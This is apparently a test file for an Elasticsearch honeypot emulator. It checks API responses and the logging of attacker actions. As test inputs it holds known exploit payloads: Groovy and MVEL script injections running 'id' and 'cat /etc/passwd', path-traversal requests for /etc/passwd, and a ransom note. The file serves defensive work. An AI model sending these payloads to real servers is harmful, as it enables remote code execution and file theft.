import { afterEach, describe, expect, it } from 'vitest'
import elasticsearch from '../../../src/emulators/elasticsearch/index.ts'
import { type Playing, play } from '../../harness.ts'
import { type Asking, ask, findsOf, type Reply } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

async function cluster(version = '7.17.9', hosts = new MemoryHosts()): Promise<Playing> {
  playing = await play(elasticsearch, {
    options: { version },
    persona: 'plain',
    prompts: 'test/fixtures/prompts',
    hosts,
    settings: { limits: { connectionsPerSource: 200 } },
  })
  return playing
}

const json = (body: unknown): Asking => ({
  headers: { 'Content-Type': 'application/json' },
  body: typeof body === 'string' ? body : JSON.stringify(body),
})
const parsed = ({ body }: Reply): Record<string, unknown> => JSON.parse(body) as Record<string, unknown>

describe('Elasticsearch 7.17.9', () => {
  it('names its product and no server, and says that it is open', async () => {
    const p = await cluster()
    const reply = await ask(p, 'GET', '/')
    expect(reply.head.split('\r\n').map((line) => line.split(':')[0])).toEqual([
      'HTTP/1.1 200 OK',
      'X-elastic-product',
      'Warning',
      'content-type',
      'content-length',
    ])
    expect(reply.body).toMatch(
      /^\{\n {2}"name" : "[\w-]+",\n {2}"cluster_name" : ".*",\n {2}"cluster_uuid" : "[\w-]{22}",\n {2}"version" : \{\n {4}"number" : "7\.17\.9",/,
    )
    expect(reply.body.endsWith('"tagline" : "You Know, for Search"\n}\n')).toBe(true)
  })

  it('tells wrong paths, methods, parameters and types apart', async () => {
    const p = await cluster()
    const replies = await Promise.all([
      ask(p, 'GET', '/nope'),
      ask(p, 'GET', '/a/b/c/d'),
      ask(p, 'PATCH', '/'),
      ask(p, 'GET', '/?c=1'),
      ask(p, 'POST', '/t/_doc', { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: '{}' }),
      ask(p, 'POST', '/t/_doc', json('{"a":')),
      ask(p, 'OPTIONS', '/'),
      ask(p, 'PUT', '/Upper'),
      ask(p, 'GET', '/_nothing'),
    ])
    expect(replies.map(({ status }) => status)).toEqual([404, 400, 405, 400, 406, 400, 200, 400, 400])
    expect(parsed(replies[0]!)).toMatchObject({
      error: { root_cause: [{ type: 'index_not_found_exception' }], 'resource.type': 'index_or_alias', index_uuid: '_na_', index: 'nope' },
      status: 404,
    })
    expect(replies[1]!.body).toBe('{"error":"no handler found for uri [/a/b/c/d] and method [GET]"}')
    expect(replies[2]!.header('allow')).toBe('GET,HEAD')
    expect(replies[3]!.body).toContain('request [/] contains unrecognized parameter: [c]')
    expect(replies[4]!.body).toBe('{"error":"Content-Type header [application/x-www-form-urlencoded] is not supported","status":406}')
  })

  it('keeps what a source writes and deletes, for that source', async () => {
    const p = await cluster()
    expect((await ask(p, 'PUT', '/t')).body).toBe('{"acknowledged":true,"shards_acknowledged":true,"index":"t"}')
    expect((await ask(p, 'PUT', '/t')).body).toContain('resource_already_exists_exception')
    const made = await ask(p, 'POST', '/t/_doc', json({ a: 1 }))
    expect([made.status, parsed(made)]).toMatchObject([
      201,
      {
        _index: 't',
        _type: '_doc',
        _version: 1,
        result: 'created',
        _shards: { total: 2, successful: 1, failed: 0 },
        _seq_no: 0,
        _primary_term: 1,
      },
    ])
    expect(String(parsed(made)._id)).toMatch(/^[\w-]{20}$/)
    expect(parsed(await ask(p, 'GET', '/t/_search'))).toMatchObject({
      hits: { total: { value: 1, relation: 'eq' }, hits: [{ _source: { a: 1 } }] },
    })
    expect(parsed(await ask(p, 'GET', '/t/_count'))).toMatchObject({ count: 1 })
    expect((await ask(p, 'DELETE', '/t')).body).toBe('{"acknowledged":true}')
    expect((await ask(p, 'GET', '/t')).status).toBe(404)
    expect(p.data('elasticsearch.delete')).toMatchObject([{ operation: 'delete-index', indices: ['t'], documents: 1 }])
  })

  it('takes bulks that end with a newline', async () => {
    const p = await cluster()
    const lines =
      '{"index":{"_index":"b","_id":"1"}}\n{"x":"one two"}\n{"create":{"_index":"b","_id":"1"}}\n{"x":2}\n{"delete":{"_index":"b","_id":"9"}}'
    const headers = { 'Content-Type': 'application/x-ndjson' }
    const refused = await ask(p, 'POST', '/_bulk', { headers, body: lines })
    expect([refused.status, refused.body]).toEqual([
      400,
      expect.stringContaining('The bulk request must be terminated by a newline [\\\\n]'),
    ])
    expect(parsed(await ask(p, 'POST', '/_bulk', { headers, body: `${lines}\n` }))).toMatchObject({
      errors: true,
      items: [
        { index: { status: 201 } },
        { create: { status: 409, error: { type: 'version_conflict_engine_exception' } } },
        { delete: { status: 404, result: 'not_found' } },
      ],
    })
  })

  it('shows the seed in aligned tables, and its customers to whoever searches', async () => {
    const p = await cluster()
    const table = await ask(p, 'GET', '/_cat/indices?v')
    expect(table.body).toMatch(
      /^health status index +uuid +pri rep docs\.count docs\.deleted store\.size pri\.store\.size\n(yellow open {3}\S+ +[\w-]{22} +1 +1 +\d+ +0 +[\d.]+k?b +[\d.]+k?b\n)+$/,
    )
    const [, customers] = /(\S+-customers)/.exec(table.body)!
    const found = parsed(
      await ask(
        p,
        'POST',
        `/${customers}/_search`,
        json({
          size: 2,
          query: { bool: { must: [{ term: { 'address.country.keyword': 'DE' } }] } },
          aggs: { c: { terms: { field: 'address.country.keyword' } } },
        }),
      ),
    ) as unknown as { hits: { hits: { _source: { address: { country: string } } }[] }; aggregations: { c: { buckets: { key: string }[] } } }
    expect(found.hits.hits.map(({ _source }) => _source.address.country)).toEqual(['DE', 'DE'])
    expect(found.aggregations.c.buckets.map(({ key }) => key)).toEqual(['DE'])
    expect(p.data('elasticsearch.exfil')).toMatchObject([{ indices: [customers], documents: 2 }])
    expect((await ask(p, 'GET', '/_cat/indices?format=json&h=index,docs.count')).body).toMatch(/^\[\{"index":"\S+?","docs\.count":"\d+"\}/)
    expect((await ask(p, 'GET', '/_cluster/settings')).body).toBe('{"persistent":{},"transient":{}}')
  })

  it('has the rest of the API: every path of the tools that look around answers', async () => {
    const p = await cluster()
    expect((await ask(p, 'GET', '/_cat')).body).toMatch(/^=\^\.\^=\n\/_cat\/allocation\n/)
    expect((await ask(p, 'GET', '/_cat/indices?h=index,docs.count&s=docs.count:desc&bytes=b')).body).toMatch(/^(\S+ +\d+ *\n)+$/)
    const paths =
      '/_cluster/health /_cluster/settings /_cluster/state /_cluster/stats /_nodes /_nodes/stats /_stats /_aliases /_mapping /_settings /_template /_snapshot /_tasks /_xpack /_license /_ingest/pipeline /_cat/nodes /_cat/health /_cat/master /_cat/shards /_cat/aliases /_cat/allocation /_cat/count /_cat/plugins /_cat/templates /favicon.ico'.split(
        ' ',
      )
    const answers = await Promise.all(paths.map(async (path) => `${path} ${(await ask(p, 'GET', path)).status}`))
    expect(answers).toEqual(paths.map((path) => `${path} 200`))
    const head = await ask(p, 'HEAD', '/')
    expect([head.status, head.body]).toEqual([200, ''])
    await ask(p, 'PUT', '/t')
    expect(parsed(await ask(p, 'GET', '/t/_doc/none'))).toEqual({ _index: 't', _type: '_doc', _id: 'none', found: false })
    expect(parsed(await ask(p, 'GET', '/nope/_doc/1'))).toMatchObject({ error: { type: 'index_not_found_exception' }, status: 404 })
    expect((await ask(p, 'GET', '/_cluster/health')).body).not.toContain('cluser')
  })

  it('refuses what is larger than 100 MiB, and JSON deeper than any', async () => {
    const p = await cluster()
    const large = await p.exchange(
      `POST /t/_doc HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${100 * 2 ** 20 + 1}\r\n\r\n`,
    )
    expect(large.toString()).toMatch(/^HTTP\/1\.1 413 /)
    const deep = await ask(p, 'POST', '/_search', json(`{"query":${'{"bool":'.repeat(200)}{}${'}'.repeat(200)}}`))
    expect(deep.status).toBe(400)
  })

  it('plays the blackmail: everything deleted, a note left, wallet and mail kept', async () => {
    const p = await cluster()
    expect((await ask(p, 'DELETE', '/*')).status).toBe(200)
    expect((await ask(p, 'GET', '/_cat/indices')).body).toBe('')
    const note = 'All your data is backed up. Pay 0.01 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail to back@example.com'
    expect((await ask(p, 'PUT', '/read_me/_doc/1', json({ message: note }))).status).toBe(201)
    expect(parsed(await ask(p, 'GET', '/_search'))).toMatchObject({ hits: { total: { value: 1 }, hits: [{ _index: 'read_me' }] } })
    expect(p.data('elasticsearch.ransom')).toMatchObject([{ index: 'read_me', note }])
    expect(p.data('indicator').map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      'wallet bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
      'email back@example.com',
    ])
    expect(p.artifacts.kept.size).toBe(1)
  })

  it('refuses Groovy and Java, keeps them, and runs nothing', async () => {
    const hosts = new MemoryHosts()
    const p = await cluster('7.17.9', hosts)
    const script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()'
    const refused = await ask(p, 'POST', '/_search', json({ script_fields: { x: { script } } }))
    expect([refused.status, parsed(refused)]).toMatchObject([
      400,
      { error: { root_cause: [{ type: 'script_exception', reason: 'compile error', lang: 'painless' }] } },
    ])
    const groovy = await ask(p, 'POST', '/_search', json({ script_fields: { x: { script: { lang: 'groovy', source: script } } } }))
    expect(groovy.body).toContain('script_lang not supported [groovy]')
    expect(p.data('elasticsearch.script')).toMatchObject([
      { script, command: 'id', ran: false },
      { lang: 'groovy', ran: false },
    ])
    expect(hosts.commands).toEqual([])
  })

  it('does not read from another cluster', async () => {
    const p = await cluster()
    const reply = await ask(
      p,
      'POST',
      '/_reindex',
      json({ source: { remote: { host: 'http://203.0.113.9:9200' }, index: 'x' }, dest: { index: 'y' } }),
    )
    expect(reply.body).toContain('[203.0.113.9:9200] not whitelisted in reindex.remote.whitelist')
    expect(p.data('indicator')).toMatchObject([{ kind: 'url', value: 'http://203.0.113.9:9200' }])
  })

  it('is found by the probes for Elasticsearch and by no others', async () => {
    const p = await cluster()
    // An index of that name does not exist: what this one looks for is a 404.
    expect(await findsOf(p)).toEqual(['elasticsearch'])
    expect(p.data('lure.fault')).toEqual([])
    expect(p.deadLetters).toEqual([])
  }, 30_000)
})

describe('Elasticsearch 1.4.2', () => {
  it('answers HTTP/1.0 with two header lines, which is how scanners know it', async () => {
    const p = await cluster('1.4.2')
    const reply = await ask(p, 'GET', '/', { version: '1.0' })
    expect(reply.head).toMatch(/^HTTP\/1\.0 200 OK\r\nContent-Type: application\/json; charset=UTF-8\r\nContent-Length: \d+$/)
    expect(reply.body).toContain('"build_timestamp" : "2014-12-16T14:11:12Z"')
  })

  it('runs the scripts of strangers on the host and shows their output', async () => {
    const hosts = new MemoryHosts()
    const p = await cluster('1.4.2', hosts)
    const script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()'
    const reply = parsed(await ask(p, 'POST', '/_search?pretty', json({ size: 1, script_fields: { x: { script } } }))) as unknown as {
      hits: { hits: { fields: { x: string[] } }[] }
    }
    expect(reply.hits.hits[0]!.fields.x).toEqual(['ran id as elasticsearch\n'])
    expect(p.events.find(({ type }) => type === 'elasticsearch.script')).toMatchObject({
      data: { command: 'id', ran: true },
      tags: expect.arrayContaining(['cve:CVE-2015-1427', 'attack:T1190']),
    })
  })

  it('takes the script from the query, and MVEL with its Scanner', async () => {
    const hosts = new MemoryHosts()
    const p = await cluster('1.4.2', hosts)
    const body = {
      size: 1,
      script_fields: {
        exp: {
          script:
            'import java.util.*;new Scanner(Runtime.getRuntime().exec("cat /etc/passwd").getInputStream()).useDelimiter("\\\\A").next();',
        },
      },
    }
    await ask(p, 'GET', `/_search?source=${encodeURIComponent(JSON.stringify(body))}`)
    expect(hosts.commands.map(({ command }) => command)).toEqual(['cat /etc/passwd'])
    expect(p.events.find(({ type }) => type === 'elasticsearch.script')?.tags).toContain('cve:CVE-2014-3120')
  })

  it('serves files of the host through its site plug-in and its snapshots', async () => {
    const hosts = new MemoryHosts([['/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n']])
    const p = await cluster('1.4.2', hosts)
    expect((await ask(p, 'GET', '/_plugin/head/../../../../../../etc/passwd')).body).toBe('root:x:0:0:root:/root:/bin/bash\n')
    const bytes = (await ask(p, 'GET', '/_snapshot/pwn/back%2f..%2f..%2f..%2f..%2fetc%2fpasswd')).body
    expect(bytes).toContain('(offset=0, length=32): [114, 111, 111, 116, 58')
    expect(p.events.filter(({ type }) => type === 'elasticsearch.traversal').map(({ tags }) => tags![0])).toEqual([
      'cve:CVE-2015-3337',
      'cve:CVE-2015-5531',
    ])
  })

  it('words its errors in one line', async () => {
    const p = await cluster('1.4.2')
    expect((await ask(p, 'GET', '/nope/_search')).body).toBe('{"error":"IndexMissingException[[nope] missing]","status":404}')
    expect((await ask(p, 'GET', '/a/b/c/d/e')).body).toBe('No handler found for uri [/a/b/c/d/e] and method [GET]')
  })
})

describe('the transport port', () => {
  it('answers the handshake with its version, and HTTP with one line', async () => {
    const p = await cluster()
    const hello = Buffer.from(
      '45530000003300000000000000010800' +
        '6d5bd3' +
        '000000020000' +
        '16' +
        Buffer.from('internal:tcp/handshake').toString('hex') +
        '0004c3b6b503',
      'hex',
    )
    const frame = Buffer.concat([Buffer.from('4553', 'hex'), Buffer.alloc(4), hello.subarray(6)])
    frame.writeInt32BE(frame.length - 6, 2)
    const reply = await p.exchange(frame, { port: p.port(1) })
    expect(reply.subarray(0, 2).toString()).toBe('ES')
    expect(reply.readUInt8(14)).toBe(1 | 8)
    // 7170999 in groups of seven bits.
    expect(reply.subarray(-4).toString('hex')).toBe('b7d7b503')
    expect((await p.exchange('GET / HTTP/1.0\r\n\r\n', { port: p.port(1) })).toString()).toBe('This is not an HTTP port')
    expect(p.data('elasticsearch.transport')).toMatchObject([{ kind: 'handshake', action: 'internal:tcp/handshake' }, { kind: 'http' }])
  })
})
